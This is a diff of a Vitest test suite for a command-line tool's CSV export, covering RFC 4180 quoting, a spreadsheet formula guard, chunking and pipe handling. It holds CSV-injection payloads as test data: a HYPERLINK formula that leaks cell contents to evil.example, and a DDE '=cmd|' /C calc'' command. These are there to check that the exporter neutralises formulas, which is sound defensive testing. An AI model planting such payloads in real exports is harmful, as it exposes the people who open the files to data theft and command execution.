@@ -1,8 +1,9 @@
 import { parse } from 'csv-parse/sync';
-import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { chmodSync, existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ENGINE, sandbox, type Sandbox } from './helpers.js';
+import { BIN, ENGINE, sandbox, type Sandbox } from './helpers.js';
 import { runInPty } from './pty.js';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+1', '-2+3', '@SUM(A1:A9)'];
@@ -30,6 +31,36 @@ function withoutRecounts(box: Sandbox, insert: string): void {
   box.sql(`ALTER TABLE meetings DISABLE TRIGGER person_figures_meetings; ${insert};
     ALTER TABLE meetings ENABLE TRIGGER person_figures_meetings; SELECT refresh_person_figures(id) FROM people`);
 }
+
+/**
+ * Cells that CSV and the formula guard have to get right, long and short, so rows of many sizes fall across the
+ * export's 64 kB chunks; the emoji (four bytes each) make sure a chunk ends inside a character somewhere.
+ */
+const HARD_CELLS = [
+  '', 'plain', 'a,b', 'say "hi", then "bye"', 'line\nbreak', 'crlf\r\nend', 'lone\rcr', 'ends with cr\r', '=1+2', '+1 555 0100',
+  '-3', '@SUM(A1:A9)', '\tTab first', '\r=x', "'=already guarded", "''=twice", "'just a quote", 'back\\slash', ' spaced ',
+  'ünïcødé ✓ 家', '🏠'.repeat(37), `${'long, "quoted"\n'.repeat(40)}🏠`, '=cmd|\' /C calc\'!A0',
+];
+
+/**
+ * RFC 4180 and the guard written out here from their rules, not with the export's CSV library: a text cell behind
+ * quotes that then start a formula gets one more quote; a cell with a comma, a quote or a line break is quoted, its
+ * quotes doubled; numbers bare, NULL empty; CRLF after every record.
+ */
+function expectedCsv(rows: (string | number | null)[][]): string {
+  const cell = (value: string | number | null): string => {
+    if (value === null) return '';
+    if (typeof value === 'number') return String(value);
+    const guarded = /^'*[=+\-@\t\r]/.test(value) ? `'${value}` : value;
+    return /[",\r\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
+  };
+  return rows.map((row) => `${row.map(cell).join(',')}\r\n`).join('');
+}
+
+/** Write system calls the process made (all of them: stdout, stderr, the database, the runtime's own), read as it exits. */
+const SYSCW_PROBE = `process.on('exit', () => { const fs = require('node:fs');
+  fs.writeFileSync(process.env.SYSCW_FILE, /syscw:\\s+(\\d+)/.exec(fs.readFileSync('/proc/self/io', 'utf8'))[1]); });`;
+const CAN_COUNT_WRITES = existsSync('/proc/self/io');
 
 describe('export', () => {
   let box: Sandbox;
@@ -146,6 +177,88 @@ describe('export', () => {
     const result = box.run(['export', 'secrets']);
     expect(result.code).toBe(2);
     expect(result.stderr).toContain('people, meetings, asks, followups, notes');
+  });
+
+  describe('3,000 people with hard cells', () => {
+    let many: Sandbox;
+    let expected: string;
+    const PEOPLE = 3000;
+
+    beforeAll(() => {
+      many = sandbox();
+      // The database made by a command, as in use; the person it needed forgotten again.
+      expect(many.run(['log', 'Seed Person', '--date', '2026-01-05 18:00']).code).toBe(0);
+      expect(many.run(['forget', 'Seed Person', '--yes']).code).toBe(0);
+      const people = Array.from({ length: PEOPLE }, (_, i) => {
+        const at = (k: number) => HARD_CELLS[(i * 7 + k * 5) % HARD_CELLS.length]!;
+        const empty = (text: string) => (text === '' ? null : text);
+        return {
+          name: `Person ${i} ${at(0)}`, email: empty(at(1)), phone: empty(at(2)), neighborhood: empty(at(3)),
+          organization: empty(at(4)), notes: empty(at(5)), potential: i % 6 === 0 ? null : (i % 5) + 1,
+        };
+      });
+      // 50 at a time: on the server each statement is one psql argument, which Linux caps at 128 kB.
+      for (let from = 0; from < PEOPLE; from += 50) {
+        const part = people.slice(from, from + 50);
+        many.sql(
+          `INSERT INTO people (name, name_key, email, phone, neighborhood, organization, notes, potential, rung, created_at, updated_at)
+           VALUES ${part.map(() => `(?, ?, ?, ?, ?, ?, ?, ?, 'contact', '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z')`).join(', ')}`,
+          part.flatMap((p) => [p.name, p.name.toLowerCase(), p.email, p.phone, p.neighborhood, p.organization, p.notes, p.potential]),
+        );
+      }
+      const ids = many.sql<{ id: number }>(`SELECT id FROM people ORDER BY id`).map((row) => row.id);
+      expect(ids).toHaveLength(PEOPLE);
+      expected = expectedCsv([
+        ['id', 'name', 'rung', 'potential', 'email', 'phone', 'neighborhood', 'organization', 'notes', 'source', 'referred_by', 'meetings', 'last_met', 'added'],
+        ...people.map((p, i) => [
+          ids[i]!, p.name, 'contact', p.potential, p.email, p.phone, p.neighborhood, p.organization, p.notes, null, null, 0, null, '2026-01-01T00:00:00.000Z',
+        ]),
+      ]);
+      // The data is the test's point: several chunks, and one of them ending inside a four-byte character.
+      const bytes = Buffer.from(expected);
+      expect(bytes.length).toBeGreaterThan(4 * 65536);
+      const chunkEnds = Array.from({ length: Math.floor(bytes.length / 65536) }, (_, k) => (k + 1) * 65536);
+      expect(chunkEnds.some((end) => (bytes[end]! & 0xc0) === 0x80)).toBe(true);
+    });
+
+    afterAll(() => many.cleanup());
+
+    it('come out byte for byte as RFC 4180 and the formula guard say, to stdout, with --bom and to a file', () => {
+      const result = many.run(['export', 'people']);
+      expect(result.code, result.stderr).toBe(0);
+      expect(result.stderr).toBe('');
+      expect(result.stdout).toBe(expected);
+      expect(many.run(['export', 'people', '--bom']).stdout).toBe(`\ufeff${expected}`);
+      const out = join(many.dir, 'people.csv');
+      expect(many.run(['export', 'people', '--out', out]).code).toBe(0);
+      expect(readFileSync(out).equals(Buffer.from(expected))).toBe(true);
+      expect(csvOf(expected)).toHaveLength(PEOPLE); // and a CSV reader agrees it is 3,000 records
+    });
+
+    // stdout into a pipe is written synchronously on Linux: a write() per row is a system call per row.
+    it.skipIf(!CAN_COUNT_WRITES)('are written into a pipe in a few large writes, not one per row', () => {
+      const probe = join(many.dir, 'syscw.cjs');
+      writeFileSync(probe, SYSCW_PROBE);
+      const counted = join(many.dir, 'syscw');
+      const result = many.run(['export', 'people'], { env: { NODE_OPTIONS: `--require ${probe}`, SYSCW_FILE: counted } });
+      expect(result.code, result.stderr).toBe(0);
+      expect(result.stdout).toBe(expected);
+      const writes = Number(readFileSync(counted, 'utf8'));
+      // ~1.9 MB is ~30 writes of 64 kB, and the runtime's own few dozen; one per row would be over 3,000.
+      expect(writes).toBeLessThan(PEOPLE / 10);
+    });
+
+    it('stop quietly when the reader has had enough: `export people | head -1` exits 0 at once, nothing on stderr', () => {
+      const errors = join(many.dir, 'head.err');
+      const started = Date.now();
+      const piped = spawnSync('bash', ['-c', `"${process.execPath}" "${BIN}" export people 2>"${errors}" | head -1; exit \${PIPESTATUS[0]}`], {
+        env: many.env, encoding: 'utf8', timeout: 30_000,
+      });
+      expect(piped.status, readFileSync(errors, 'utf8')).toBe(0);
+      expect(piped.stdout).toBe('id,name,rung,potential,email,phone,neighborhood,organization,notes,source,referred_by,meetings,last_met,added\r\n');
+      expect(readFileSync(errors, 'utf8')).toBe('');
+      expect(Date.now() - started).toBeLessThan(10_000);
+    });
   });
 
   it('200,000 generated meetings export as 200,000 rows after the header', () => {
